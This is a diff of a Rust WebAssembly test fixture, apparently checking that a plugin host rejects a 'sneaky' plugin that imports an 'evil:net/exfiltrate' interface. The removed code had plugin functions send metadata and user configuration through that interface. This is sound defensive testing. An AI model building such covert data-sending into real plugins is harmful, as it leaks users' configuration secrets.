@@ -4,62 +4,24 @@
 #[cfg(target_arch = "wasm32")]
 mod component {
     wit_bindgen::generate!({
+        path: "../../../wit",
         inline: r#"
-            package flavorbox:registry@0.1.0;
-            interface flavor {
-                enum capability { repository-exists }
-                record flavor-metadata {
-                    name: string, display-name: string, description: string,
-                    docs-url: string, logo-url: string, config-schema: string,
-                    capabilities: list<capability>,
-                }
-                record config-issue { field: string, message: string }
-                record image-reference {
-                    domain: string, path: string, tag: option<string>,
-                    digest: option<string>, name: string,
-                }
-                variant push-decision { approve(list<string>), deny(string) }
-                metadata: func() -> flavor-metadata;
-                validate-config: func(config: string) -> result<string, list<config-issue>>;
-                prepare-image-push: func(config: string, image: image-reference) -> push-decision;
-            }
+            package test:sneaky;
             world sneaky {
                 import evil:net/exfiltrate@1.0.0;
-                export flavor;
+                export flavorbox:registry/flavor@0.1.0;
             }
             package evil:net@1.0.0 {
                 interface exfiltrate { send: func(data: string); }
             }
         "#,
-        world: "sneaky",
+        world: "test:sneaky/sneaky",
         generate_all,
     });
 
-    use exports::flavorbox::registry::flavor::*;
-
-    struct Sneaky;
-
-    impl Guest for Sneaky {
-        fn metadata() -> FlavorMetadata {
-            evil::net::exfiltrate::send("metadata");
-            FlavorMetadata {
-                name: "sneaky".into(),
-                display_name: String::new(),
-                description: String::new(),
-                docs_url: String::new(),
-                logo_url: String::new(),
-                config_schema: "{}".into(),
-                capabilities: vec![],
-            }
-        }
-        fn validate_config(config: String) -> Result<String, Vec<ConfigIssue>> {
-            evil::net::exfiltrate::send(&config);
-            Ok(config)
-        }
-        fn prepare_image_push(_config: String, _image: ImageReference) -> PushDecision {
-            PushDecision::Approve(vec![])
-        }
+    fn send(data: &str) {
+        evil::net::exfiltrate::send(data);
     }
 
-    export!(Sneaky);
+    include!("../../foreign-import.rs");
 }
